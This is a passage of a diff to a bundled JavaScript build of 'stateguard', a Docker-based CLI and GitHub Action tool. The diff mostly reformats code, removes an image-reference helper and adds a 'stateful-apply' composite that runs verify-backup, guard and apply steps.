         const ls = await this.docker(['volume', 'ls', '-q', '--filter', `label=${RUN_RECORD_LABEL.key}=${key}`]);
-        const old = ls.stdout.split('\n').map((x) => x.trim()).filter((n) => n && n !== name);
+        const old = ls.stdout
+            .split('\n')
+            .map((x) => x.trim())
+            .filter((n) => n && n !== name);
         if (old.length > 0)
             await this.docker(['volume', 'rm', ...old]);
     }
@@ -14844,32 +15977,6 @@ class DockerCli {
             throw new _errors_js__WEBPACK_IMPORTED_MODULE_2__/* .EnvironmentError */ .eG(`docker rm ${idOrName} failed: ${firstLine(r.stderr)}`);
         }
     }
-}
-
-
-/***/ }),
-
-/***/ 8533:
-/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   Q: () => (/* binding */ normalizeImageRef)
-/* harmony export */ });
-/** Image references compared as the engine lists them. Pure: no process is spawned here. */
-/**
- * Normalise an image reference the way the engine lists RepoTags: implicit `:latest`, and the
- * Docker Hub prefixes dropped (`docker.io/library/x` lists as `x`).
- */
-function normalizeImageRef(ref) {
-    let r = ref.trim();
-    if (r.includes('@'))
-        return r; // digest refs compare as written
-    r = r.replace(/^docker\.io\/library\//, '').replace(/^docker\.io\//, '').replace(/^index\.docker\.io\//, '');
-    const lastSlash = r.lastIndexOf('/');
-    const tail = r.slice(lastSlash + 1);
-    if (!tail.includes(':'))
-        r += ':latest';
-    return r;
 }
 
 
@@ -27808,13 +28915,14 @@ var __webpack_exports__ = {};
 // EXPORTS
 __nccwpck_require__.d(__webpack_exports__, {
   Lo: () => (/* reexport */ commands/* COMMANDS */.L),
+  V: () => (/* reexport */ COMPOSITES),
   N9: () => (/* reexport */ errors/* FAILURE_REASONS */.N9),
   g_: () => (/* binding */ actionMain),
   m0: () => (/* binding */ cliMain)
 });
 
-// EXTERNAL MODULE: ./src/commands/index.ts + 45 modules
-var commands = __nccwpck_require__(4585);
+// EXTERNAL MODULE: ./src/commands/index.ts + 47 modules
+var commands = __nccwpck_require__(2014);
 // EXTERNAL MODULE: ./src/commands/inputs.ts
 var inputs = __nccwpck_require__(7521);
 // EXTERNAL MODULE: ./src/errors.ts
@@ -27867,8 +28975,13 @@ function parseArgv(spec, argv) {
             const name = arg.slice(2, eq === -1 ? undefined : eq);
             const def = defs.find((d) => d.name === name && !d.positional && !d.rest);
             if (!def) {
-                const known = defs.filter((d) => !d.positional && !d.rest).map((d) => `--${d.name}`).join(', ');
-                throw new errors/* UserError */.yo(`unknown flag --${name} for 'stateguard ${spec.name}'. Known flags: ${known}.`, { input: name });
+                const known = defs
+                    .filter((d) => !d.positional && !d.rest)
+                    .map((d) => `--${d.name}`)
+                    .join(', ');
+                throw new errors/* UserError */.yo(`unknown flag --${name} for 'stateguard ${spec.name}'. Known flags: ${known}.`, {
+                    input: name,
+                });
             }
             if (eq !== -1)
                 push(name, arg.slice(eq + 1));
@@ -27885,7 +28998,8 @@ function parseArgv(spec, argv) {
                     push(name, 'true');
                 else {
                     throw new errors/* UserError */.yo(`--${name} is a boolean flag and the word after it, ${JSON.stringify(next)}, is neither true nor false. ` +
-                        `Write --${name} (true), --${name} true, --${name} false or --${name}=true|false; booleans are not coerced (yes/1/TRUE are refused).`, { input: name });
+                        `Write --${name} (true), --${name} true, --${name} false or --${name}=true|false; booleans are not ` +
+                        `coerced (yes/1/TRUE are refused).`, { input: name });
                 }
             }
             else {
@@ -27948,7 +29062,8 @@ function usage(spec) {
             'commands:',
             ...Object.values(commands/* COMMANDS */.L).map((c) => `  ${c.name.padEnd(16)} ${c.description}`),
             '',
-            "Run 'stateguard <command> --help' for its flags. Exit codes: 0 ok, 1 no, 2 drift (plan --detailed-exitcode), 3 could not run.",
+            "Run 'stateguard <command> --help' for its flags. Exit codes: 0 ok, 1 no, 2 drift (plan --detailed-exitcode), " +
+                '3 could not run.',
             '',
             'environment:',
             ...compose_env/* COMPOSE_ENV_HELP */.R3.map((l) => `  ${l}`),
@@ -27956,8 +29071,16 @@ function usage(spec) {
     }
     const lines = [`usage: stateguard ${spec.name} [flags]`, '', spec.description, '', 'flags:'];
     for (const d of spec.inputs.filter((x) => !x.actionOnly)) {
-        const flag = d.positional ? `[${d.name}...]` : d.rest ? `-- ${d.name}...` : `--${d.name}${d.kind === 'boolean' ? '' : ' VALUE'}`;
-        const extra = [d.kind === 'list' && !d.positional && !d.rest ? 'repeatable' : '', d.default ? `default ${d.default}` : '', d.required ? 'required' : '']
+        const flag = d.positional
+            ? `[${d.name}...]`
+            : d.rest
+                ? `-- ${d.name}...`
+                : `--${d.name}${d.kind === 'boolean' ? '' : ' VALUE'}`;
+        const extra = [
+            d.kind === 'list' && !d.positional && !d.rest ? 'repeatable' : '',
+            d.default ? `default ${d.default}` : '',
+            d.required ? 'required' : '',
+        ]
             .filter(Boolean)
             .join('; ');
         lines.push(`  ${flag.padEnd(30)} ${d.description}${extra ? ` (${extra})` : ''}`);
@@ -28056,6 +29179,58 @@ function processExitCode(code) {
         : errors/* ExitCode */.yU.couldNotRun;
 }
 
+;// CONCATENATED MODULE: ./src/commands/stateful-apply.ts
+const statefulApplyComposite = {
+    name: 'stateful-apply',
+    title: 'stateguard stateful-apply',
+    description: 'verify-backup -> guard -> apply: re-run a one-shot module bound to a stateful one, only with a verified ' +
+        'backup, an explicit allow and the exact confirm token.',
+    comment: [
+        'verify-backup -> guard -> apply for one one-shot module, for a workflow_dispatch run (see',
+        'workflows/stateful-apply.yml). Inputs and outputs come from src/commands (one definition);',
+        'the steps from src/commands/stateful-apply.ts.',
+        '',
+        'Fail closed: apply runs only when verify-backup AND guard succeeded (the default `success()`),',
+        'and apply re-plans and re-guards by itself anyway. The guard also runs after a rejected backup',
+        '(`!cancelled()`) so the operator sees every failed condition in one run, not one per retry.',
+        "apply is bound to the plan the guard just decided on (expected-plan-hash = the guard's",
+        'plan-hash, unless the caller passes the hash of a plan a human reviewed).',
+        '',
+        'Inputs reach the bundles only as environment variables (never interpolated into a script);',
+        "a hyphen in an input's variable name becomes `_` here, which the action layer also accepts.",
+    ].join('\n'),
+    steps: [
+        { id: 'verify', command: 'verify-backup' },
+        {
+            id: 'guard',
+            command: 'guard',
+            if: '${{ !cancelled() }}',
+            comment: 'Also after a rejected backup, so every failed condition is reported at once; apply below\nstill needs both ' +
+                'to have succeeded.',
+        },
+        {
+            id: 'apply',
+            command: 'apply',
+            env: { 'expected-plan-hash': '${{ inputs.expected-plan-hash || steps.guard.outputs.plan-hash }}' },
+        },
+    ],
+    required: ['backup-root', 'confirm'],
+    notes: { 'expected-plan-hash': 'Empty binds apply to the plan the guard step decided on.' },
+    outputs: [
+        { name: 'verified', from: ['verify'] },
+        { name: 'decision', from: ['guard'] },
+        { name: 'reasons', from: ['guard'] },
+        { name: 'status', from: ['apply'] },
+        { name: 'exit-code', from: ['apply'] },
+        { name: 'container-id', from: ['apply'] },
+        { name: 'duration-ms', from: ['apply'] },
+        { name: 'plan-hash', from: ['apply', 'guard'] },
+        { name: 'failure-reason', from: ['apply', 'guard', 'verify'] },
+    ],
+};
+/** Every composite action, by name (scripts/build.mjs writes actions/<name>/action.yml for each). */
+const COMPOSITES = { 'stateful-apply': statefulApplyComposite };
+
 ;// CONCATENATED MODULE: ./src/main.ts
 /**
  * The single bundle's entry points. dist/cli.js and every dist/actions/<name>.js are tiny files
@@ -28064,7 +29239,7 @@ function processExitCode(code) {
 
 /** The layers below turn every error into a result; this is the last line if one still escapes. */
 function crashed(err, asAnnotation) {
-    const message = `stateguard failed closed on an unexpected error: ${err instanceof Error ? err.message : String(err)}`;
+    const message = `stateguard failed closed on an unexpected error: ` + `${err instanceof Error ? err.message : String(err)}`;
     process.stderr.write(`${message}\n`);
     if (asAnnotation)
         process.stdout.write(`::error::${message.replace(/%/g, '%25').replace(/\r/g, '%0D').replace(/\n/g, '%0A')}\n`);
@@ -28097,8 +29272,10 @@ async function actionMain(name) {
 
 
 
+
 var __webpack_exports__COMMANDS = __webpack_exports__.Lo;
+var __webpack_exports__COMPOSITES = __webpack_exports__.V;
 var __webpack_exports__FAILURE_REASONS = __webpack_exports__.N9;
 var __webpack_exports__actionMain = __webpack_exports__.g_;
 var __webpack_exports__cliMain = __webpack_exports__.m0;
-export { __webpack_exports__COMMANDS as COMMANDS, __webpack_exports__FAILURE_REASONS as FAILURE_REASONS, __webpack_exports__actionMain as actionMain, __webpack_exports__cliMain as cliMain };
+export { __webpack_exports__COMMANDS as COMMANDS, __webpack_exports__COMPOSITES as COMPOSITES, __webpack_exports__FAILURE_REASONS as FAILURE_REASONS, __webpack_exports__actionMain as actionMain, __webpack_exports__cliMain as cliMain };
